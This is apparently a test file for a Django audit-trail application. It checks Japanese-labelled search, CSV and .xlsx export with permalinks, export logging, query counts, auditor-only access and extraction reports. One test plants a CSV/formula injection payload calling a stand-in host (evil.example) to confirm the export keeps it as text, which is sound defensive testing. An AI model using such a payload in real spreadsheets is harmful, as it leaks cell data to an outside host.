"""The audit search and the saved extractions (issue 15 item 4, NEXT_WAVE §C.1 item 3, §C.2):
the whole trail filtered and worded in Japanese, CSV and .xlsx with the page's columns, each row
with its case number and a permalink, formula-safe cells; an export is itself an audit event;
the queries do not grow with the rows; auditors read every department, others read nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from governance.audit.services import PendingEvent, record_event, record_events
from governance.models import AuditEvent, DecisionRecord, EvidenceAccess
from tests.spec_cases import approved_review

pytestmark = pytest.mark.django_db


def _csv(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_the_auditor_reads_the_trail_in_japanese_labels(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    page = login(cast["auditor"]).get(f"/audit/?case={review.number}").content.decode()
    assert "決裁（承認）" in page
    assert "指摘事項の追加" in page
    assert review.department.name in page
    assert f"/home/cases/{review.pk}/trace/" in page
    assert "仕様書確認" in page  # the case kind
    assert "承認済" in page  # the status in its Japanese label, not "approved"


def test_the_filters_narrow_by_department_action_kind_and_dates(
    cast: Any, login: Any, dept_b: Any
) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    own = client.get(f"/audit/?department={review.department_id}&kind=spec_review")
    assert review.number in own.content.decode()
    other = client.get(f"/audit/?department={dept_b.pk}").content.decode()
    assert review.number not in other
    approvals = client.get("/audit/?action=spec_review.approve").context["rows"]
    assert [row.action for row in approvals] == ["決裁（承認）"]
    tomorrow = (timezone.localdate() + dt.timedelta(days=2)).isoformat()
    assert client.get(f"/audit/?date_from={tomorrow}").context["rows"] == []
    assert client.get(f"/audit/?date_to={tomorrow}&kind=budget_check").context["rows"] == []
    assert len(client.get(f"/audit/?date_to={tomorrow}").context["rows"]) > 5


def test_the_csv_export_has_the_pages_columns_and_is_an_audit_event(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    before = AuditEvent.objects.count()
    response = client.post("/audit/export/", {"format": "csv", "case": review.number})
    assert response.status_code == 200
    rows = _csv(response)
    assert rows[0][:7] == ["通番", "日時", "部局", "実行者", "操作", "案件種別", "案件番号"]
    assert rows[0][-1] == "リンク"
    body = rows[1:]
    assert body and all(row[6] == review.number for row in body)
    assert all(row[-1] == f"http://testserver/home/cases/{review.pk}/trace/" for row in body)
    assert "決裁（承認）" in {row[4] for row in body}
    export = AuditEvent.objects.order_by("-sequence").first()
    assert export is not None and AuditEvent.objects.count() == before + 1
    assert export.action == "audit.export"
    assert export.actor_id == cast["auditor"].pk
    assert export.changes["export"][1] == {
        "target": "search",
        "format": "csv",
        "filters": {"case": review.number},
        "rows": len(body),
    }


def test_the_xlsx_export_keeps_a_formula_as_text(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    with transaction.atomic():
        record_event(
            actor=cast["reviewer"],
            action="spec_review.finding.add",
            obj=review,
            reason='=HYPERLINK("http://evil.example/"&A1,"x")',
        )
    response = login(cast["auditor"]).post(
        "/audit/export/", {"format": "xlsx", "case": review.number}
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    reasons = [row[9] for row in sheet.iter_rows(min_row=2)]
    formula = [cell for cell in reasons if str(cell.value).startswith("'=HYPERLINK")]
    assert len(formula) == 1 and formula[0].data_type == "s"
    assert sheet.cell(row=2, column=7).value == review.number


def _bulk(cast: Any, review: Any, count: int) -> None:
    with transaction.atomic():
        record_events(
            actor=cast["reviewer"],
            events=[
                PendingEvent(
                    action="spec_review.finding.add",
                    obj=review,
                    changes={"reviewer": [None, cast["reviewer"].pk], "round": [i, i + 1]},
                    reason=f"確認 {i}",
                )
                for i in range(count)
            ],
        )


@pytest.mark.parametrize("url", ["/audit/?kind=spec_review", "/audit/?verify="])
def test_the_search_costs_the_same_queries_with_10_and_1000_events(
    cast: Any, login: Any, url: str
) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    _bulk(cast, review, 10)
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    _bulk(cast, review, 990)
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many) == len(few)
    assert len(many) <= 20


def test_the_export_costs_the_same_queries_with_10_and_1000_events(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    _bulk(cast, review, 10)
    with CaptureQueriesContext(connection) as few:
        first = client.post("/audit/export/", {"format": "csv"})
    _bulk(cast, review, 990)
    with CaptureQueriesContext(connection) as many:
        second = client.post("/audit/export/", {"format": "csv"})
    assert len(_csv(second)) - len(_csv(first)) == 991  # 990 events and the first export
    assert len(many) == len(few)


def test_only_auditors_search_and_extract_and_every_other_post_is_refused(
    cast: Any, login: Any
) -> None:
    approved_review(cast)
    for name in ("staff_a", "staff_b", "reviewer", "approver"):
        client = login(cast[name])
        for url in ("/audit/", "/audit/extractions/", "/audit/extractions/self-decided/"):
            assert client.get(url).status_code == 403, (name, url)
        assert client.post("/audit/export/", {"format": "csv"}).status_code == 403, name
        exported = client.post("/audit/extractions/self-decided/export/", {"format": "csv"})
        assert exported.status_code == 403, name
    assert not AuditEvent.objects.filter(action="audit.export").exists()
    auditor = login(cast["auditor"])
    assert auditor.post("/audit/").status_code == 405
    assert auditor.post("/audit/extractions/").status_code == 405
    assert auditor.post("/audit/extractions/self-decided/").status_code == 405
    assert auditor.get("/audit/export/").status_code == 405
    assert auditor.post("/audit/export/", {"format": "exe"}).status_code == 404


def test_the_mandatory_spec_reviews_of_a_year_say_whether_approval_preceded_the_board(
    cast: Any, login: Any
) -> None:
    late = approved_review(cast)  # board 2025-10-01, approved today
    early = approved_review(
        cast, title="人事給与システム更改", contract_board_date=dt.date(2099, 3, 1)
    )
    client = login(cast["auditor"])
    page = client.get("/audit/extractions/spec-reviews/?fiscal_year=2025")
    rows = {row[0]: row for row in page.context["rows"]}
    assert rows[late.number][6] == "いいえ"
    assert rows[early.number][6] == "はい"
    assert rows[late.number][3] == "48,500,000円"
    assert client.get("/audit/extractions/spec-reviews/?fiscal_year=2024").context["rows"] == []
    exported = _csv(
        client.post(
            "/audit/extractions/spec-reviews/export/", {"format": "csv", "fiscal_year": "2025"}
        )
    )
    assert exported[0][-2:] == ["審査会前の決裁", "リンク"]
    assert {row[0] for row in exported[1:]} == {late.number, early.number}
    assert AuditEvent.objects.filter(action="audit.export").count() == 1


def test_self_decided_decisions_are_zero_and_a_breach_is_listed(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    assert client.get("/audit/extractions/self-decided/").context["rows"] == []
    assert "0件" in client.get("/audit/extractions/self-decided/").content.decode()
    record = DecisionRecord.objects.filter(case=review).first()
    assert record is not None
    with connection.cursor() as cursor:
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = replica")
        cursor.execute(
            "UPDATE governance_decisionrecord SET decided_by_id = %s WHERE id = %s",
            [review.requester_id, record.pk],
        )
        if connection.vendor == "postgresql":
            cursor.execute("SET session_replication_role = origin")
    rows = client.get("/audit/extractions/self-decided/").context["rows"]
    assert [row[0] for row in rows] == [review.number]
    assert rows[0][-1].endswith(f"/home/cases/{review.pk}/trace/#decision-{record.pk}")


def test_decisions_taken_without_opening_evidence_are_listed(cast: Any, login: Any) -> None:
    review = approved_review(cast)
    client = login(cast["auditor"])
    records = list(DecisionRecord.objects.filter(case=review))
    blind = {record.pk for record in records if not record.evidence_viewed}
    rows = client.get("/audit/extractions/nothing-opened/").context["rows"]
    assert {int(row[-1].rsplit("-", 1)[1]) for row in rows} == blind
    assert len(blind) == len(records)  # the services decided without opening anything
    approval = next(r for r in records if r.decision == "spec_review.approve")
    assert approval.evidence  # the evidence was listed, and not opened
    assert not EvidenceAccess.objects.filter(case=review).exists()


def test_budget_checks_with_open_guidance_are_listed(cast: Any, login: Any, dept_a: Any) -> None:
    from tests.budget_support import drive_to_closed, start
    from tests.factories import InformationSystemFactory

    system = InformationSystemFactory.create(department=dept_a)
    check = drive_to_closed(
        start(cast["staff_a"], system), cast["staff_a"], cast["reviewer"], cast["approver"]
    )
    rows = login(cast["auditor"]).get("/audit/extractions/open-guidance/").context["rows"]
    assert [(row[0], row[4]) for row in rows] == [(check.number, 1)]
